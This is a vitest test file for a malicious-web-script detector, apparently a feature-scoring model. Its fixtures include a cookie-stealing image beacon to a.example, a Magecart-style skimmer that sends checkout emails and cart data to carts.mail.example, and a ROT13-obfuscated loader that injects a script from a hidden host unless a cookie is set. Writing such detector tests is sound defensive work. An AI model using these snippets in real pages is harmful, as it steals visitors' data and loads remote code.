import { expect, test } from 'vitest'
import { analyse } from './analysis.ts'
import { conceptValues } from './concepts.ts'
import { gatherEvidence } from './evidence.ts'
import { matchRules, RULE_NAMES, ruleValues } from './rules.ts'

/** The features that are not 0, without those of single rules. */
function summaryOf(source: string): Readonly<Record<string, number>> {
  const analysis = analyse(source)
  const values = ruleValues(matchRules(gatherEvidence(analysis, conceptValues(analysis), [])))
  expect(values.length).toBe(RULE_NAMES.length)
  return Object.fromEntries(
    RULE_NAMES.flatMap((name, i) => {
      const value = values[i] ?? 0
      return value === 0 || name.startsWith('rule ') ? [] : [[name, value]]
    }),
  )
}

/** Loads a script whose host is hidden, unless a cookie is set. Its other strings are put together, too. */
const hiddenHost = (sets: string): string =>
  `(function(){function r(s){return s.replace(/[a-z]/gi,function(c){return String.fromCharCode(c.charCodeAt(0)+(c.toLowerCase()<'n'?13:-13))})}var i=['ugg','c:/','/jv','qtr','gyb','nqr','e.p','bz/','n.w','f','fpe','vcg','grk','g/w','fr','ra'];for(var k=0;k<i.length;k++)i[k]=r(i[k]);var g=i[14]+i[15];if(!document.cookie.match(g)){var s=document.createElement(i[10]+i[11]);s.type=i[12]+i[13];s.src=i[0]+i[1]+i[2]+i[3]+i[4]+i[5]+i[6]+i[7]+i[8]+i[9];document.head.appendChild(s);${sets}}})()`

test.each<[name: string, source: string, expected: Readonly<Record<string, number>>]>([
  ['nothing', `document.title='a'`, {}],
  [
    'a conclusive finding of its class',
    `new Image().src='//a.example/?c='+document.cookie`,
    { 'findings of malware': 1, findings: 0.25 },
  ],
  [
    'a suggestive finding counts half',
    `document.querySelector('#checkout_email').addEventListener('blur',function(){if(this.checkValidity())navigator.sendBeacon('https://carts.mail.example/left',JSON.stringify({email:this.value,cart:window.CART}))})`,
    { 'findings of magecart': 0.5, findings: 0.25 },
  ],
  [
    'a script of a hidden host, once for each visitor',
    hiddenHost(
      `var d=new Date();d.setTime(d.getTime()+2592e5);document.cookie=g+'=1; expires='+d.toUTCString()`,
    ),
    { 'findings of malware': 1, findings: 0.25 },
  ],
  [
    'a script of a hidden host, until the visitor has made a choice',
    hiddenHost(
      `document.querySelector('#no').onclick=function(){document.cookie=g+'=1; expires='+new Date()}`,
    ),
    {},
  ],
])('findings as features of the model: %s', (_, source, expected) => {
  expect(summaryOf(source)).toEqual(expected)
})
